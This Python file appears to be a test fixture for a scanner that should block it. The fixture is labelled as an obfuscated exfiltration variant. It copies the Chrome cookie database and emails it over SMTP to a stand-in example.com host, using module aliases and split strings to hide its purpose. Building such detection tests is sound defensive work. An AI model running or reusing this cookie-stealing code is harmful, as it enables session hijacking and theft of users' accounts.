# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/browser_cookies_smtp.py technique: alias+concat
import os as _m0
import shutil as _m1
import smtplib as _m2
from email.message import EmailMessage as _f3
source = _m0.path.expanduser('~/.config/goo' + 'gle-chrome/De' + 'fault/Cookies')
_m1.copy(source, 'coo' + 'kie' + 's.d' + 'b')
message = _f3()
message['Su' + 'bj' + 'ec' + 't'] = 'c'
message.add_attachment(open('coo' + 'kie' + 's.d' + 'b', 'r' + 'b').read(), maintype='app' + 'lic' + 'ati' + 'on', subtype='octe' + 't-st' + 'ream')
with _m2.SMTP('mail.' + 'examp' + 'le.co' + 'm', 25) as smtp:
    smtp.send_message(message, from_addr='a@ex' + 'ampl' + 'e.co' + 'm', to_addrs=['b@ex' + 'ampl' + 'e.co' + 'm'])
